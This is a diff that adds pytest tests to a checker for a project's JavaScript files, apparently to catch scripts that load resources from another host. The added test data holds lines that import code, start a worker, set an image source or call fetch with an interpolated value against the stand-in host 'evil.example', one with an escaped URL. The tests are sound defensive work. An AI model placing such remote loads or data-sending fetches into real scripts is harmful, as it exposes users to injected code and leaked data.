@@ -101,6 +101,29 @@ def test_a_path_in_a_text_is_no_import() -> None:
     assert scripts_of(main=text).problems == []
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        'import "https://evil.example/x.js";',
+        'import {a} from "//evil.example/x.js";',
+        'const a = await import("https://evil.example/x.js");',
+        'export {a} from "https://evil.example/x.js";',
+        'import "\\x68ttps://evil.example/x.js";',
+        "await fetch(`https://evil.example/${a}`);",
+        'new Worker("//evil.example/x.js");',
+        'image.src = "https://evil.example/a.png";',
+    ],
+)
+def test_a_script_loads_nothing_from_another_host(text: str) -> None:
+    (problem,) = told(scripts_of(main=f"a();\n{text}").problems)
+    assert (problem.key, problem.at.line) == ("other-host", 2)
+    assert "evil.example" in problem.values["target"]
+
+
+def test_a_script_may_make_links_to_other_hosts() -> None:
+    assert scripts_of(main='a.href = "https://wa.me/1";\nsay("from", "//x");').problems == []
+
+
 @pytest.mark.parametrize("name", SCRIPTS)
 def test_a_script_keeps_to_what_can_be_made_smaller(name: str) -> None:
     text = SCRIPTS[name]
@@ -109,6 +132,10 @@ def test_a_script_keeps_to_what_can_be_made_smaller(name: str) -> None:
     for line in text.splitlines():
         code = line.strip()
         assert code.startswith(("//", "/*", "*")) or not code or code[-1] in ";{}(,:[", line
+
+
+def test_an_address_goes_into_a_link_for_mail_encoded() -> None:
+    assert "`mailto:${encodeURIComponent(mail)" in SCRIPTS["buyers-list.js"]
 
 
 @pytest.mark.parametrize("name", SCRIPTS)
